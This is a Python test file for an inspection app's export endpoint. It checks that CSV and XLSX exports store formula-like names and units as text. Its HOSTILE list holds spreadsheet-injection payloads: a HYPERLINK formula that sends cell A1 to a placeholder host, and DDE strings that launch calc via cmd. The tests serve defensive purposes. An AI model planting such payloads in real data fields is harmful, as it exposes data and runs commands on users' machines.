"""Class 6: text that a spreadsheet would run as a formula (a display name or a unit written
"=HYPERLINK(...)", "+1", "-2", "@SUM") is exported as text, in CSV and in XLSX."""

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from server.checklists.operations import load_checklists
from tests.test_checklists import REPO_CHECKLISTS

CST = timezone(timedelta(hours=8))
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_rows(app_ctx, make_property, make_user, make_unit, insert_inspection, auth_headers):
    load_checklists(REPO_CHECKLISTS)
    prop = make_property()
    at = datetime(2026, 11, 20, 10, tzinfo=CST)
    for n, text in enumerate(HOSTILE):
        patrol = make_user("patrol", properties=[prop], display_name=text)
        unit = make_unit(prop, building=text[:20], entrance="1", room=f"{n}01")
        insert_inspection(prop, "home_visit", "unit", unit.id, at + timedelta(hours=n), patrol)
    return auth_headers(make_user("supervisor", properties=[prop]))


def test_csv_cells_cannot_start_a_formula(client, hostile_rows):
    response = client.get("/api/inspections/export?format=csv", headers=hostile_rows)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(HOSTILE)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    inspectors = {row[5] for row in rows}
    assert inspectors == {"'" + text for text in HOSTILE}  # the text kept, quoted


def test_xlsx_cells_hold_text_never_formulas(client, hostile_rows):
    response = client.get("/api/inspections/export?format=xlsx", headers=hostile_rows)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert {row[5].value for row in sheet.iter_rows(min_row=2)} == set(HOSTILE)  # as written
